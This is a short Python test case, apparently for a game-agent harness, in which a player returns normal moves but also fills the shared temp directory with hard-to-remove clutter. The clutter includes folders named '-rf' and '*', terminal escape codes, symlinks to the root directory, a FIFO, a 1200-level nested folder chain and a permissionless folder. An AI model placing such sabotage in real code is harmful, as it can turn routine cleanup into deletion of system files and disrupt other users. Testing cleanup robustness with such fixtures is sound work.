"""Case 80: fills its scratch folder with what is hard to remove: deep, closed, and oddly named folders, and links."""

import os
import tempfile


class SmartPlayer:
    def __init__(self, player_id):
        self.player_id = player_id

    def play(self, board):
        if len(board.get_possible_moves()) > 14:
            self.litter()
        return board.get_possible_moves()[0]

    def litter(self):
        top = os.open(tempfile.gettempdir(), os.O_RDONLY)
        names = ["line\nbreak", "-rf", "*", "\x1b[2J", os.fsdecode(b"\xff\xfe"), " ", "x" * 255]
        for name in names:
            self.attempt(os.mkdir, name, 0o700, dir_fd=top)
            self.attempt(os.symlink, "/", f"link{name}"[:255], dir_fd=top)
        self.attempt(os.mkfifo, "pipe", dir_fd=top)
        folder = top
        for depth in range(1200):
            name = f"{depth}" + "d" * 200
            if self.attempt(os.mkdir, name, 0o700, dir_fd=folder) is not None:
                break
            os.symlink("/", "link", dir_fd=folder)
            folder, above = os.open(name, os.O_RDONLY, dir_fd=folder), folder
            os.close(above)
        self.attempt(os.mkdir, "closed", 0, dir_fd=folder)
        os.close(folder)

    def attempt(self, act, *arguments, **options):
        try:
            return act(*arguments, **options)
        except OSError as error:
            print(error)
            return error
